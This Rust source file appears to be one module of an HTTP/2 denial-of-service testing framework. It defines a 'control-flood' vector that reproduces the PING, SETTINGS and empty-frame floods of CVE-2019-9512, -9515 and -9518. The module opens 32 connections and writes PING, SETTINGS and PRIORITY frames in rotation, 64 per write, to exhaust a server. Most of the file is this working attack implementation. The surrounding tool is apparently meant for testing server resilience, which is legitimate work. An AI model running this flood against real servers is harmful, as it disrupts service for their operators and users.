//! `control-flood`: frames that must be answered or applied, and carry nothing

use crate::{
    vectors::{
        Family, Front, Resource, Vector,
        streams::{Manner, Salvo, attack},
    },
    wire::frames::{PING, PRIORITY, SETTINGS, frame},
};

pub(super) const VECTOR: Vector = Vector {
    name: "control-flood",
    family: Family::Http2,
    models: "frames that must be answered or applied, and carry nothing",
    source: "CVE-2019-9512 (PING), -9515 (SETTINGS), -9518 (empty frames); h2 cut none of \
        11.3 million PINGs",
    parameters: "32 connections; PING, SETTINGS and PRIORITY by turns, 64 in a write",
    resource: Resource::Streams,
    room: None,
    attack: |front| Box::pin(attack(front, MANNER)),
};

const MANNER: Manner = Manner { connections: 32, settings: &[], salvo, counts_resets: false };

fn salvo(_front: &Front, turn: u32) -> Option<Salvo> {
    let one = match turn % 3 {
        0 => frame(PING, 0, 0, &[7; 8]),
        1 => frame(SETTINGS, 0, 0, &[]),
        _ => frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 9]),
    };
    Some(Salvo { bytes: one.repeat(64), offers: 64 })
}
